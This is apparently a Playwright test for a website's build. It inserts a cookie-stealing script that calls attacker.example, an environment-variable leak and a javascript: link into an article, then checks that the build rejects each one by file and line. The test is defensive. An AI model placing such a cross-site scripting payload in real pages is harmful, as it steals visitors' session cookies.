import { expect, test } from "@playwright/test";
import { execFile } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";

/*
 * The host's own build refuses an article that holds code (decision 032): `astro build` of a copy
 * of the project with one article given a script, an expression and a `javascript:` link fails,
 * naming the file and the line of each. (`src/content/plain-markdown.test.ts` tries each case on
 * its own, without a build.)
 */

const ROOT = process.cwd();
const run = promisify(execFile);

/** A copy of the sources, with links to the project's packages and public files. */
function copyProject() {
  const dir = mkdtempSync(join(tmpdir(), "kovira-article-code-"));
  for (const item of ["src", "integrations", "scripts", "server", "astro.config.mjs", "tsconfig.json", "package.json"])
    cpSync(join(ROOT, item), join(dir, item), { recursive: true });
  symlinkSync(join(ROOT, "public"), join(dir, "public"));
  mkdirSync(join(dir, "node_modules"));
  for (const name of readdirSync(join(ROOT, "node_modules")).filter((name) => !name.startsWith(".") || name === ".bin"))
    symlinkSync(join(ROOT, "node_modules", name), join(dir, "node_modules", name));
  return dir;
}

test("a build fails on an article with a script, an expression and a javascript: link, naming its file and lines", async () => {
  test.setTimeout(300_000);
  const project = copyProject();
  try {
    const file = "src/content/insights/offline-first-field-apps.mdx";
    const text = readFileSync(join(project, file), "utf8");
    const lines = text.split("\n");
    // After the first paragraph of the body: a script, a leak of the build's environment, a link that runs.
    const at = lines.indexOf("", lines.indexOf("---", 1) + 2) + 1;
    lines.splice(
      at,
      0,
      "<script>fetch('https://attacker.example/?c=' + document.cookie)</script>",
      "",
      "Built by {process.env.USER}.",
      "",
      "[Read on](javascript:alert(1))",
      "",
    );
    writeFileSync(join(project, file), lines.join("\n"));
    const output = await run(process.execPath, [join(ROOT, "node_modules/astro/bin/astro.mjs"), "build"], {
      cwd: project,
      env: { ...process.env, BUILD_DIR: "build", FORCE_COLOR: "0" },
      timeout: 280_000,
      maxBuffer: 16 * 1024 * 1024,
    }).then(
      () => "the build succeeded",
      (error: { stdout: string; stderr: string }) => `${error.stdout}\n${error.stderr}`,
    );
    expect(output).toContain(`${file}:${at + 1}:1: HTML or JSX is not allowed in an article (<script>)`);
    expect(output).toContain(`${file}:${at + 3}:10: a {…} expression is not allowed in an article (process.env.USER)`);
    expect(output).toContain(`${file}:${at + 5}:1: a link to "javascript:"`);
  } finally {
    rmSync(project, { recursive: true, force: true });
  }
});
